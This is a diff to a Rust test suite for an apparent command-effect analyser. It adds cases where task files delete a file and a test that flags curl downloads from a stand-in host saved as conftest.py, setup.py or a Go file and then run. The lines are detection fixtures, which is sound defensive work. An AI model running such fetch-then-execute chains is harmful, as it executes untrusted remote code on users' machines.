@@ -61,6 +61,8 @@ fn what_is_written_and_then_run_is_looked_through() {
         ("Procfile.dev", "web: rm a", "overmind start -f Procfile.dev", "delete a"),
         ("mise.toml", "[tasks.x]\nrun = 'rm a'", "mise run x", "delete a"),
         ("mise.toml", "[tasks.x]\nrun = [\n  'ls',\n  'rm a',\n]", "mise run x", "delete a"),
+        ("pyproject.toml", "[tool.poe.tasks]\nx = \"rm a\"", "poe x", "delete a"),
+        ("index.js", "require('fs').rmSync('a')", "node .", "delete a"),
         ("Makefile.toml", "[tasks.x]\ncommand = \"rm\"\nargs = [\"a\"]", "cargo make x", "delete a"),
         (".cargo/config.toml", "[target.x]\nrunner = \"rm a\"", "cargo run", "delete a"),
         ("build.ninja", "rule r\n command = rm a\nbuild b: r", "ninja", "delete a"),
@@ -104,6 +106,17 @@ fn what_is_written_and_then_run_is_looked_through() {
         let found = written(file, text, command);
         assert!(found.iter().any(|effect| effect == expected), "{file}, {command}: {found:?}");
     }
+}
+
+#[test]
+fn what_was_fetched_runs_under_the_name_that_a_tool_looks_for() {
+    for (file, command) in [("conftest.py", "pytest"), ("setup.py", "pip install ."), ("a.go", "go run a.go")]
+    {
+        let found = does(&format!("curl -so {file} https://a.example/x; {command}"));
+        assert!(found.iter().any(|done| done == "run what https://a.example/x answers"), "{file}: {found:?}");
+    }
+    let found = does("curl -so data.json https://a.example/x; pytest");
+    assert!(!found.iter().any(|done| done.starts_with("run ")), "{found:?}");
 }
 
 #[test]
